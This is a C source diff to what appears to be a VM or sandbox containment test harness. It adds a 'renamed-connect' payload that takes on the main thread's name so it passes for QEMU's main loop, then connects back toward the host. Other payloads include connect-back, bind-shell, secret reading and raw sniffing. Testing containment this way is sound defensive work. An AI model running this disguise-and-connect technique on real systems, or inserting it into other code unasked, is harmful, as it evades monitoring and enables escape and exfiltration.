@@ -55,6 +55,7 @@
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
+#include <sys/prctl.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
@@ -223,6 +224,33 @@ static void p_connect_back(const char *name, const char *arg)
 		return;
 	}
 	report(name, 1, "connected to %s and sent %d bytes", arg, n);
+}
+
+/*
+ * renamed-connect: connect-back after the thread took the main thread's
+ * name (PR_SET_NAME), as a payload would to pass for QEMU's main loop,
+ * which may reach the host's loopback when the VM has user-mode
+ * networking (slirp forwards the guest's 10.0.2.2 there). The thread
+ * gets its own name back afterwards.
+ */
+static void p_renamed_connect(const char *name, const char *arg)
+{
+	char mine[16] = "", main_name[17] = "";
+	int fd = open("/proc/self/comm", O_RDONLY | O_CLOEXEC);
+	ssize_t n = fd >= 0 ? read(fd, main_name, sizeof main_name - 1) : -1;
+	if (fd >= 0)
+		close(fd);
+	if (n <= 0 || prctl(PR_GET_NAME, mine) != 0) {
+		report(name, 0, "read the thread names: %s", strerror(errno));
+		return;
+	}
+	main_name[n - 1] = 0;
+	if (prctl(PR_SET_NAME, main_name) != 0) {
+		report(name, 0, "PR_SET_NAME %s: %s", main_name, strerror(errno));
+		return;
+	}
+	p_connect_back(name, arg);
+	prctl(PR_SET_NAME, mine);
 }
 
 static void p_bind_shell(const char *name, const char *arg)
@@ -667,6 +695,8 @@ static void run_payload(const char *name, const char *arg, int diskfd)
 		p_read_secret(name, arg, diskfd);
 	else if (!strcmp(name, "connect-back"))
 		p_connect_back(name, arg);
+	else if (!strcmp(name, "renamed-connect"))
+		p_renamed_connect(name, arg);
 	else if (!strcmp(name, "bind-shell"))
 		p_bind_shell(name, arg);
 	else if (!strcmp(name, "raw-sniff"))
